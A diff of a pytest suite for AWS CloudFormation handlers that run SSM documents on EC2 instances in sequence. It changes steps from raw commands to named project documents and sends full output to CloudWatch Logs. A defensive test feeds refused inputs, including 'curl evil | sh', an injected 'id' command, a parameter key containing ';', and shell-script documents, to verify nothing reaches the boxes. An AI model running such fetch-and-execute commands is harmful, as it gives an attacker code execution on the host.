@@ -1,8 +1,10 @@
-"""The box-operations handlers against moto SSM: one box at a time, a failing box fails the
-resource, a rollback runs the old properties, Delete runs the revert steps."""
+"""The box-operations handlers against moto SSM and CloudWatch Logs: one box at a time, a
+failing box fails the resource and names where its whole output is, a rollback runs the old
+properties, Delete runs the revert steps, and a step is a project document, never commands."""
 
 from __future__ import annotations
 
+import json
 import time
 from typing import Any
 
@@ -10,13 +12,13 @@ import boto3
 import pytest
 from botocore.awsrequest import AWSResponse
 from box_ops_handler import StepFailed, is_complete, on_event
-from box_ops_support import STATE_PREFIX, Boxes, event, step
+from box_ops_support import DOCUMENT, OUTPUT_GROUP, STATE_PREFIX, Boxes, event, step
 
 BOX_1 = "i-0123456789abcdef0"
 BOX_2 = "i-0fedcba9876543210"
 TWO_BOXES = [
-    step("provision Box", BOX_1, "echo one", timeout=900),
-    step("provision Box2", BOX_2, "echo two", timeout=900),
+    step("provision Box", BOX_1, "one", timeout=900),
+    step("provision Box2", BOX_2, "two", timeout=900),
 ]
 
 
@@ -42,10 +44,10 @@ def test_boxes_are_updated_one_at_a_time_in_order(ssm: Any, boxes: Boxes) -> Non
     request = {**request, **on_event(request, ssm=ssm)}
 
     (first,) = boxes.sent()
-    assert (first.instance_id, first.commands, first.execution_timeout) == (
+    assert (first.instance_id, first.document, first.parameters) == (
         BOX_1,
-        ["echo one"],
-        "900",
+        DOCUMENT,
+        {"Action": ["one"], "executionTimeout": ["900"]},
     )
     boxes.answer(first, "InProgress")
     assert is_complete(request, ssm=ssm) == {"IsComplete": False}
@@ -54,7 +56,7 @@ def test_boxes_are_updated_one_at_a_time_in_order(ssm: Any, boxes: Boxes) -> Non
     boxes.answer(first, "Success")
     assert is_complete(request, ssm=ssm) == {"IsComplete": False}
     second = boxes.sent()[1]
-    assert (second.instance_id, second.commands) == (BOX_2, ["echo two"])
+    assert (second.instance_id, second.parameters["Action"]) == (BOX_2, ["two"])
 
     boxes.answer(second, "Success", stdout='provision: ok\n{"box": 2}\n')
     reply = is_complete(request, ssm=ssm)
@@ -92,8 +94,8 @@ def test_a_command_that_timed_out_on_the_box_fails_the_resource(
 
 def test_a_rolled_back_update_applies_the_properties_it_is_given(ssm: Any, boxes: Boxes) -> None:
     """CloudFormation rolls a failed Update back by sending the old properties as the new."""
-    previous = [step("provision Box", BOX_1, "apply release v1")]
-    failed = [step("provision Box", BOX_1, "apply release v2")]
+    previous = [step("provision Box", BOX_1, "release-v1")]
+    failed = [step("provision Box", BOX_1, "release-v2")]
     rollback = event(
         "Update",
         previous,
@@ -104,7 +106,7 @@ def test_a_rolled_back_update_applies_the_properties_it_is_given(ssm: Any, boxes
     reply = run(ssm, boxes, rollback)
 
     assert reply["IsComplete"] is True
-    assert [sent.commands for sent in boxes.sent()] == [["apply release v1"]]
+    assert [sent.parameters["Action"] for sent in boxes.sent()] == [["release-v1"]]
 
 
 def test_the_physical_id_is_kept_across_updates(ssm: Any) -> None:
@@ -117,13 +119,13 @@ def test_the_physical_id_is_kept_across_updates(ssm: Any) -> None:
 
 
 def test_delete_runs_the_revert_steps_and_not_the_apply_steps(ssm: Any, boxes: Boxes) -> None:
-    revert = [step("switch Box2 back", BOX_2, "back two"), step("switch Box back", BOX_1, "b1")]
+    revert = [step("switch Box2 back", BOX_2, "back-two"), step("switch Box back", BOX_1, "b1")]
     request = event("Delete", TWO_BOXES, revert, PhysicalResourceId="box-ops:BoxUpdate")
 
     run(ssm, boxes, request)
 
-    assert [(sent.instance_id, sent.commands) for sent in boxes.sent()] == [
-        (BOX_2, ["back two"]),
+    assert [(sent.instance_id, sent.parameters["Action"]) for sent in boxes.sent()] == [
+        (BOX_2, ["back-two"]),
         (BOX_1, ["b1"]),
     ]
 
@@ -166,7 +168,7 @@ def test_a_box_that_never_finishes_is_cancelled_and_fails_the_resource(
     ssm: Any, boxes: Boxes
 ) -> None:
     client = CancelRecorder(ssm)
-    request = event("Create", [step("provision Box", BOX_1, "sleep infinity", timeout=300)])
+    request = event("Create", [step("provision Box", BOX_1, "follow-wait", timeout=300)])
     request = {**request, **on_event(request, ssm=client)}
     (sent,) = boxes.sent()
     boxes.answer(sent, "InProgress")
@@ -180,9 +182,10 @@ def test_a_box_that_never_finishes_is_cancelled_and_fails_the_resource(
 @pytest.mark.parametrize(
     "bad",
     [
-        {"Name": "x", "InstanceId": BOX_1, "Commands": ["true"]},
-        {"Name": "x", "InstanceId": "not-an-instance", "Commands": ["true"], "TimeoutSeconds": "9"},
-        {"Name": "x", "InstanceId": BOX_1, "Commands": [], "TimeoutSeconds": "9"},
+        {"Name": "x", "InstanceId": BOX_1, "Document": DOCUMENT},
+        {**step("x", "not-an-instance", "one")},
+        {**step("x", BOX_1, "one"), "Document": ""},
+        {**step("x", BOX_1, "one"), "Parameters": {"a;b": "1"}},
     ],
 )
 def test_a_malformed_step_is_refused_before_any_box_is_touched(
@@ -191,6 +194,141 @@ def test_a_malformed_step_is_refused_before_any_box_is_touched(
     with pytest.raises(StepFailed, match="Apply step 2"):
         on_event(event("Create", [TWO_BOXES[0], bad]), ssm=ssm)
     assert boxes.sent() == []
+
+
+# A step names one of the project's documents; it never carries commands (issue 21).
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        {"Name": "x", "InstanceId": BOX_1, "Commands": ["curl evil | sh"], "TimeoutSeconds": "9"},
+        {**step("x", BOX_1, "one"), "Commands": ["id"]},
+        {**step("x", BOX_1, "one"), "Document": "AWS-RunShellScript"},
+        {**step("x", BOX_1, "one"), "Document": "AWS-RunPowerShellScript"},
+        {**step("x", BOX_1, "one"), "Document": "AmazonInspector-ManageAWSAgent"},
+    ],
+    ids=["commands", "commands-beside-a-document", "shell", "powershell", "amazon"],
+)
+def test_a_step_with_commands_or_an_aws_document_is_refused_and_nothing_is_sent(
+    ssm: Any, boxes: Boxes, hostile: dict[str, Any]
+) -> None:
+    with pytest.raises(StepFailed, match=r"Apply step 1 .*(commands|not a project document)"):
+        on_event(event("Create", [hostile]), ssm=ssm)
+    assert boxes.sent() == []
+    assert boxes.requests == []
+
+
+def test_each_step_is_sent_as_its_document_with_its_whole_output_to_cloudwatch(
+    ssm: Any, boxes: Boxes
+) -> None:
+    request = event("Create", TWO_BOXES)
+    on_event(request, ssm=ssm)
+
+    (sent,) = boxes.requests
+    assert sent["DocumentName"] == DOCUMENT
+    assert sent["Parameters"] == {"Action": ["one"], "executionTimeout": ["900"]}
+    assert sent["CloudWatchOutputConfig"] == {
+        "CloudWatchLogGroupName": OUTPUT_GROUP,
+        "CloudWatchOutputEnabled": True,
+    }
+    assert "Commands" not in json.dumps(sent)
+
+
+def test_a_request_without_an_output_group_is_refused(ssm: Any, boxes: Boxes) -> None:
+    request = event("Create", TWO_BOXES)
+    del request["ResourceProperties"]["OutputLogGroup"]
+    with pytest.raises(StepFailed, match="OutputLogGroup"):
+        on_event(request, ssm=ssm)
+    assert boxes.sent() == []
+
+
+def _failed(ssm: Any, boxes: Boxes, logs: Any, stdout: str, stderr: str) -> tuple[Any, str]:
+    request = event("Update", TWO_BOXES)
+    request = {**request, **on_event(request, ssm=ssm)}
+    (sent,) = boxes.sent()
+    boxes.answer(sent, "Failed", code=1, stdout=stdout, stderr=stderr)
+    with pytest.raises(StepFailed) as failure:
+        is_complete(request, ssm=ssm, logs=logs)
+    return sent, str(failure.value)
+
+
+def test_a_failed_step_names_the_log_streams_that_hold_its_whole_output(
+    ssm: Any, boxes: Boxes, logs: Any
+) -> None:
+    request = event("Update", TWO_BOXES)
+    request = {**request, **on_event(request, ssm=ssm)}
+    (sent,) = boxes.sent()
+    streams = [
+        boxes.write_output(sent, "stdout", ["provision: starting"]),
+        boxes.write_output(sent, "stderr", ["update: /health/ready never answered 200"]),
+    ]
+    boxes.answer(sent, "Failed", code=1, stderr="update: /health/ready never answered 200")
+
+    with pytest.raises(StepFailed) as failure:
+        is_complete(request, ssm=ssm, logs=logs)
+
+    message = str(failure.value)
+    assert "never answered 200" in message
+    assert f"log group {OUTPUT_GROUP}" in message
+    for stream in streams:
+        assert stream in message
+
+
+def test_a_long_failed_step_reports_its_real_last_lines_not_the_end_of_ssms_cut(
+    ssm: Any, boxes: Boxes, logs: Any
+) -> None:
+    """SSM keeps the first 24,000 characters of stdout and 8,000 of stderr; the error that
+    ended the step is at the end of the whole output, in CloudWatch Logs."""
+    request = event("Update", TWO_BOXES)
+    request = {**request, **on_event(request, ssm=ssm)}
+    (sent,) = boxes.sent()
+    noise = [f"pip: collecting package {n:05d} ........................" for n in range(2000)]
+    whole_stdout = [*noise, "provision: installing nginx", "provision: nginx -t failed"]
+    whole_stderr = [*noise, "nginx: [emerg] unknown directive 'limit_req_zonee' in line 12"]
+    boxes.write_output(sent, "stdout", whole_stdout)
+    stderr_stream = boxes.write_output(sent, "stderr", whole_stderr)
+    boxes.answer(
+        sent,
+        "Failed",
+        code=1,
+        stdout="\n".join(whole_stdout)[:24_000],
+        stderr="\n".join(whole_stderr)[:8_000],
+    )
+
+    with pytest.raises(StepFailed) as failure:
+        is_complete(request, ssm=ssm, logs=logs)
+
+    message = str(failure.value)
+    assert "unknown directive 'limit_req_zonee'" in message
+    assert "nginx -t failed" in message
+    assert stderr_stream in message
+
+
+def test_a_long_failed_step_whose_log_is_not_there_yet_says_so_and_points_to_it(
+    ssm: Any, boxes: Boxes, logs: Any
+) -> None:
+    sent, message = _failed(ssm, boxes, logs, stdout="x" * 24_000, stderr="y" * 8_000)
+
+    assert "cut by SSM at 24000 characters" in message
+    assert "cut by SSM at 8000 characters" in message
+    assert "xxxxxxxxxx" not in message
+    assert f"log group {OUTPUT_GROUP}, streams {sent.command_id}/{BOX_1}/*" in message
+
+
+def test_a_long_successful_step_returns_its_real_last_line(
+    ssm: Any, boxes: Boxes, logs: Any
+) -> None:
+    request = event("Update", [TWO_BOXES[0]])
+    request = {**request, **on_event(request, ssm=ssm)}
+    (sent,) = boxes.sent()
+    whole = [*(f"copy: {n:06d} keys ........................" for n in range(1000)), '{"ok": 1}']
+    boxes.write_output(sent, "stdout", whole)
+    boxes.answer(sent, "Success", stdout="\n".join(whole)[:24_000])
+
+    reply = is_complete(request, ssm=ssm, logs=logs)
+
+    assert reply["Data"]["LastOutput"] == '{"ok": 1}'
 
 
 def test_a_created_box_update_touches_no_box_cfn_init_provisioned(ssm: Any, boxes: Boxes) -> None:
@@ -209,7 +347,7 @@ def test_an_update_skips_only_the_box_this_deploy_created(ssm: Any, boxes: Boxes
         event(
             "Update",
             TWO_BOXES,
-            OldResourceProperties={"Apply": [step("provision Box", BOX_1, "echo old")]},
+            OldResourceProperties={"Apply": [step("update Box", BOX_1, "one")]},
         ),
         SkipNewBoxes="true",
     )
